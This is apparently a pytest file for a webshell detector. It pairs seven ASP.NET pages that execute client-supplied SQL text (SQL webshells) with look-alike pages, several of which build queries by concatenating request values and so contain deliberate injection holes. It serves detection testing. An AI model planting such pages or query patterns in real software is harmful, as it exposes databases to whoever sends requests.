"""Pages that run the SQL text the client sends: the whole command text of an ADO.NET command
(`SqlCommand`, `OleDbCommand`, `OdbcCommand`, `OracleCommand`, `MySqlCommand`, `NpgsqlCommand`,
`SQLiteCommand`, their data
adapters, and ADO's `Connection.Execute` and `Recordset.Open` through COM) is request data, so the page is a SQL client for whoever calls it. Written from the
platform's documentation of the command constructors and `CommandText`
(docs/detection/webshell-code.md, "SQL text from the request"), each beside genuine pages that
put request values into parameters or into a query the code writes."""

from __future__ import annotations

import pytest

from code_support import assert_found, medium_or_above, run

SHELLS = [
    (
        "q.ashx",
        """<%@ WebHandler Language="C#" Class="Q" %>
using System.Web;
using System.Data.SqlClient;
public class Q : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        string text = ctx.Request.Form["q"];
        using (var cn = new SqlConnection("Data Source=.;Integrated Security=SSPI")) {
            cn.Open();
            var rd = new SqlCommand(text, cn).ExecuteReader();
            while (rd.Read()) ctx.Response.Write(rd[0] + "\\n");
        }
    }
}""",
        "EXH-WS-CODE-SQL-QUERY",
        ["form field 'q'", "SQL command", "new SqlCommand"],
    ),
    (
        "ora.ashx",
        # An application handler whose class keeps the request in a field of its base class.
        """<%@ WebHandler Language="C#" Class="Board" %>
using System.Data.OracleClient;
public class Board : Base.Handler {
    string wanted = "";
    protected override void Run() {
        wanted = Request["id"].ToString();
        using (var cn = new OracleConnection()) {
            var cmd = new OracleCommand(wanted, cn);
            cn.Open();
            var rd = cmd.ExecuteReader();
            while (rd.Read()) Response.Write(rd.GetValue(0));
        }
    }
}""",
        "EXH-WS-CODE-SQL-QUERY",
        ["request parameter 'id'", "new OracleCommand"],
    ),
    (
        "grid.aspx",
        """<%@ Page Language="VB" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.OleDb" %>
<script runat="server">
Sub Go(s As Object, e As EventArgs)
    Dim cn As New OleDbConnection(ConfigurationManager.ConnectionStrings("main").ConnectionString)
    Dim cmd As New OleDbCommand()
    cmd.Connection = cn
    cmd.CommandText = sqlBox.Text
    Dim t As New DataTable()
    Dim da As New OleDbDataAdapter(cmd)
    da.Fill(t)
    result.DataSource = t
    result.DataBind()
End Sub
</script>
<form runat="server">
<asp:TextBox ID="sqlBox" TextMode="MultiLine" runat="server" />
<asp:Button runat="server" Text="Run" OnClick="Go" />
<asp:GridView ID="result" runat="server" />
</form>""",
        "EXH-WS-CODE-SQL-QUERY",
        ["page control 'sqlbox'", "new OleDbCommand"],
    ),
    (
        "svc.asmx",
        """<%@ WebService Language="C#" Class="Svc" %>
using System.Data;
using System.Data.SqlClient;
using System.Web.Services;
public class Svc : WebService {
    [WebMethod]
    public DataSet Query(string statement) {
        var ds = new DataSet();
        new SqlDataAdapter(statement, "server=db;uid=app;pwd=x").Fill(ds);
        return ds;
    }
}""",
        "EXH-WS-CODE-SQL-QUERY",
        ["web-method parameter 'statement'", "new SqlDataAdapter"],
    ),
    (
        "ado.aspx",
        # A classic ASP database page ported as is: ADO through COM, the statement from the form.
        """<%@ Page Language="VB" AspCompat="true" %>
<script runat="server">
Sub Page_Load(s As Object, e As EventArgs)
    Dim cn = Server.CreateObject("ADODB.Connection")
    cn.Open(Request.Form("dsn"))
    Dim rs = cn.Execute(Request.Form("stmt"))
    Do While Not rs.EOF
        Response.Write(rs(0).Value & "<br>")
        rs.MoveNext()
    Loop
End Sub
</script>""",
        "EXH-WS-CODE-SQL-QUERY",
        ["form field 'stmt'", "adodb.connection.Execute"],
    ),
    (
        "pg.ashx",
        # A PostgreSQL client: server, credentials and query all the client's (Npgsql).
        """<%@ WebHandler Language="C#" Class="Pg" %>
using System.Web;
using Npgsql;
public class Pg : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        using (var cn = new NpgsqlConnection(ctx.Request.Form["cs"])) {
            cn.Open();
            var rd = new NpgsqlCommand(ctx.Request.Form["q"], cn).ExecuteReader();
            while (rd.Read()) ctx.Response.Write(rd[0] + "\\n");
        }
    }
}""",
        "EXH-WS-CODE-SQL-QUERY",
        ["form field 'q'", "new NpgsqlCommand"],
    ),
    (
        "lite.aspx",
        """<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.Data.Sqlite" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    using (var cn = new SqliteConnection("Data Source=" + Server.MapPath("~/App_Data/site.db"))) {
        cn.Open();
        var cmd = new SqliteCommand(Request.QueryString["sql"], cn);
        Response.Write(cmd.ExecuteScalar());
    }
}
</script>""",
        "EXH-WS-CODE-SQL-QUERY",
        ["query parameter 'sql'", "new SQLiteCommand"],
    ),
]

BENIGN = [
    (
        "orders.aspx",
        # Parameters: the request chooses values, the code writes the query.
        """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    using (var cn = new SqlConnection(ConfigurationManager.ConnectionStrings["shop"].ConnectionString)) {
        var cmd = new SqlCommand("SELECT Id, Total FROM Orders WHERE Customer = @c", cn);
        cmd.Parameters.AddWithValue("@c", Request.QueryString["customer"]);
        cmd.Parameters.Add("@d", System.Data.SqlDbType.Int).Value = Request.QueryString["days"];
        cn.Open();
        grid.DataSource = cmd.ExecuteReader();
        grid.DataBind();
    }
}
</script>
<form runat="server"><asp:GridView ID="grid" runat="server" /></form>""",
    ),
    (
        "search.aspx",
        # A query joined around the value (open to injection, but a query the code writes).
        """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    string sql = "SELECT Title FROM Books";
    sql += " WHERE Title LIKE '%" + Request["w"] + "%'";
    string other = "SELECT Name FROM Authors";
    other += Request["order"];
    var cn = new SqlConnection("server=db;Integrated Security=SSPI");
    grid.DataSource = new SqlCommand(sql, cn).ExecuteReader();
    list.DataSource = new SqlCommand(other, cn).ExecuteReader();
    var byYear = new SqlDataAdapter(string.Format("SELECT * FROM Books WHERE Year = {0}", Request["y"]), cn);
    var byTag = new SqlDataAdapter($"SELECT * FROM Tags WHERE Name = '{Request["t"]}'", cn);
    var byId = new SqlCommand("SELECT Title, Year " + "FROM Books WHERE Id = " + Request["id"], cn);
}
</script>""",
    ),
    (
        "report.ashx",
        # A statement built piece by piece in a StringBuilder, and a command whose CommandText the
        # code writes while the request fills its parameter.
        """<%@ WebHandler Language="C#" Class="Report" %>
using System.Text;
using System.Web;
using System.Data.SqlClient;
public class Report : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx) {
        var sb = new StringBuilder();
        sb.Append("SELECT Region, SUM(Amount) FROM Sales WHERE Region = '");
        sb.Append(ctx.Request.QueryString["region"]);
        sb.Append("' GROUP BY Region");
        var cn = new SqlConnection("server=db;Integrated Security=SSPI");
        var total = new SqlCommand(sb.ToString(), cn);
        var cmd = new SqlCommand();
        cmd.Connection = cn;
        cmd.CommandText = "SELECT COUNT(*) FROM Sales WHERE Year = @y";
        cmd.Parameters.AddWithValue("@y", ctx.Request.QueryString["year"]);
        ctx.Response.Write(cmd.ExecuteScalar());
    }
}""",
    ),
    (
        "legacy.aspx",
        # The same port with its queries written in code around the request's value.
        """<%@ Page Language="VB" AspCompat="true" %>
<script runat="server">
Sub Page_Load(s As Object, e As EventArgs)
    Dim cn = Server.CreateObject("ADODB.Connection")
    cn.Open(ConfigurationManager.AppSettings("dsn"))
    Dim rs = cn.Execute("SELECT Name FROM Members WHERE Id = " & CInt(Request("id")))
    Dim list = Server.CreateObject("ADODB.Recordset")
    list.Open("SELECT Name FROM Members ORDER BY " & Request("sort"), cn)
End Sub
</script>""",
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_sql_text_from_request_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, code: str) -> None:
    report = run(name, code)
    assert "EXH-WS-CODE-SQL-QUERY" not in [c.rule_id for c in report.capabilities]
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
